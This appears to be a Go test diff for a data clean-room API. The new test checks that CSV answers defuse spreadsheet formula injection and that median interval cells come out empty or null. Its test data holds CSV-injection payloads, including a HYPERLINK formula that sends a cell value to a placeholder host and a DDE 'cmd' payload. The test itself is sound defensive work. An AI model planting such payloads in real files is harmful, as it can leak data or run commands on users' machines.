@@ -3,6 +3,7 @@ package api_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -10,6 +11,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/apache/arrow/go/v17/arrow/ipc"
 	"github.com/cleanroom/cleanroom/audience"
 	"github.com/cleanroom/cleanroom/psi"
 	"github.com/cleanroom/cleanroom/wire"
@@ -433,5 +435,78 @@ func TestTemplatesRunWithParameters(t *testing.T) {
 	co, err := an.Collaboration(ctx, e.collab)
 	if err != nil || co.Queryable == nil || len(co.Queryable.Templates) != 5 || co.Queryable.Templates[0].Name != "conversions" {
 		t.Errorf("templates listed: %+v, %v", co.Queryable, err)
+	}
+}
+
+// TestAnswerFilesAreSafe: an answer as CSV neutralises the other party's
+// values a spreadsheet would run as formulas, and a median, which states
+// no interval, leaves its interval cells empty (CSV) or null (Arrow)
+// instead of failing.
+func TestAnswerFilesAreSafe(t *testing.T) {
+	regions := []string{`=HYPERLINK("http://x.example/?"&A1)`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`}
+	rules := strings.Replace(tablesRules, `"tables"`, `"public_groups": {"brand_co_region": {"values": [`+
+		strings.Join(func() []string {
+			var q []string
+			for _, r := range regions {
+				b, _ := json.Marshal(r)
+				q = append(q, string(b))
+			}
+			return q
+		}(), ",")+`]}}, "tables"`, 1)
+	e := newEnv(t, rules)
+	customers := tablesCSV("customers", nil)
+	for i := 3; i >= 0; i-- {
+		var b strings.Builder
+		w := csv.NewWriter(&b)
+		w.Write([]string{regions[i]})
+		w.Flush()
+		customers = strings.ReplaceAll(customers, fmt.Sprintf(",r%d,", i), ","+strings.TrimSpace(b.String())+",")
+	}
+	e.mustUploadTable(e.brand, "customers", customers, "")
+	e.mustUploadTable(e.brand, "purchases", tablesCSV("purchases", nil), "")
+	e.mustUploadTable(e.pub, "exposures", tablesCSV("exposures", nil), "")
+	e.matchBoth()
+	const q = `SELECT brand_co_region, COUNT(*) AS people, MEDIAN(brand_co_amount) AS median FROM cohort GROUP BY brand_co_region`
+	st, body, _ := e.ask(e.pub.analyst.Key, q, 1, "text/csv")
+	if st != 200 {
+		t.Fatalf("CSV: %d %s", st, body)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+	if err != nil || len(recs) != 5 {
+		t.Fatalf("CSV answer: %v\n%s", err, body)
+	}
+	if got := strings.Join(recs[0], ","); got != "brand_co_region,people,people_ci_lower,people_ci_upper,median,median_ci_lower,median_ci_upper" {
+		t.Errorf("header %s", got)
+	}
+	seen := map[string]bool{}
+	for _, r := range recs[1:] {
+		if !strings.HasPrefix(r[0], "'") {
+			t.Errorf("a formula left live in a CSV cell: %q", r[0])
+		}
+		seen[strings.TrimPrefix(r[0], "'")] = true
+		if r[4] == "" || r[5] != "" || r[6] != "" {
+			t.Errorf("median cells %q: a value and no interval expected", r[4:])
+		}
+	}
+	for _, r := range regions {
+		if !seen[r] {
+			t.Errorf("group %q missing from the CSV", r)
+		}
+	}
+	st, body, _ = e.ask(e.pub.analyst.Key, q, 1, "application/vnd.apache.arrow.stream")
+	if st != 200 {
+		t.Fatalf("Arrow: %d %s", st, body)
+	}
+	rd, err := ipc.NewReader(bytes.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rd.Release()
+	if !rd.Next() {
+		t.Fatal("no Arrow record")
+	}
+	rec := rd.Record()
+	if rec.NumRows() != 4 || rec.Column(5).NullN() != 4 || rec.Column(6).NullN() != 4 || rec.Column(4).NullN() != 0 {
+		t.Errorf("Arrow answer: %d rows, median intervals null %d/%d", rec.NumRows(), rec.Column(5).NullN(), rec.Column(6).NullN())
 	}
 }
